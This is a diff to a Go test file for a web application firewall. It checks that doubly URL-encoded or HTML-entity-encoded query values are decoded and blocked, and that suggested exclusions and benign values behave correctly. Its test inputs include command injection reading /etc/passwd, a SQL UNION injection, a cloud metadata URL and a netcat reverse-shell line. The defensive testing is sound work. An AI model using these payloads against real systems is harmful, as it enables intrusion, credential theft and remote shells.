@@ -3,7 +3,9 @@ package waf_test
 import (
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -156,6 +158,63 @@ func TestChannels_TunableAndDetected(t *testing.T) {
 		other := channelRequests[(i+1)%len(channelRequests)]
 		if v := tuned.Check(other.build(attack)); !v.Blocked() {
 			t.Errorf("%s: pasting its exclusions also let the attack pass in %s:\n%s", ch.name, other.name, strings.Join(pasted, "\n"))
+		}
+	}
+}
+
+// entityEscape writes every character of s as an HTML decimal reference.
+func entityEscape(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		b.WriteString("&#" + strconv.Itoa(int(r)) + ";")
+	}
+	return b.String()
+}
+
+func queryRequest(v string) *http.Request {
+	return browserLike(httptest.NewRequest("GET", "/app/search?q="+url.QueryEscape(v)+"&page=1", nil))
+}
+
+// A query value encoded once more than a server decodes (double URL
+// encoding, HTML character references) is inspected decoded too
+// (waf/decoded.go): attacks CRS's rules miss in that form are blocked and
+// named on the argument, the pasted exclusion lets the request pass, and
+// benign values so encoded pass.
+func TestDecodedQuery_BlockedAndTunable(t *testing.T) {
+	plain, err := waf.New(waf.Config{Name: "plain"}, rules.FS())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, enc := range []struct {
+		name   string
+		encode func(string) string
+	}{{"double URL", url.QueryEscape}, {"HTML entities", entityEscape}} {
+		for _, a := range []string{";cat /etc/passwd", "' UNION SELECT password FROM users--", "http://169.254.169.254/latest/meta-data/", "&& whoami", "| nc -e /bin/sh 10.0.0.1 4444"} {
+			r := queryRequest(enc.encode(a))
+			v := plain.Check(r)
+			if !v.Blocked() || !slices.ContainsFunc(v.Matches, func(m waf.Match) bool { return m.Variable == "ARGS:q" && m.RuleID >= 930000 && m.RuleID < 945000 }) {
+				t.Errorf("%s %q: blocked %v, matches %+v", enc.name, a, v.Blocked(), v.Matches)
+				continue
+			}
+			var pasted []string
+			for _, m := range v.Matches {
+				if m.Exclusion != "" {
+					pasted = append(pasted, m.Exclusion)
+				}
+			}
+			dir := writeRules(t, map[string]string{"before-crs/pasted.conf": strings.Join(pasted, "\n") + "\n"})
+			tuned, err := waf.New(waf.Config{Name: "tuned", RulesDir: dir}, rules.FS())
+			if err != nil {
+				t.Fatal(err)
+			}
+			if v := tuned.Check(queryRequest(enc.encode(a))); v.Blocked() {
+				t.Errorf("%s %q: still blocked after pasting (rules %v):\n%s", enc.name, a, v.Rules, strings.Join(pasted, "\n"))
+			}
+		}
+		for _, b := range []string{"50% off", "Tom & Jerry", "size 10 1/2", "café crème"} {
+			if v := plain.Check(queryRequest(enc.encode(b))); v.Blocked() {
+				t.Errorf("%s: benign %q blocked (rules %v)", enc.name, b, v.Rules)
+			}
 		}
 	}
 }
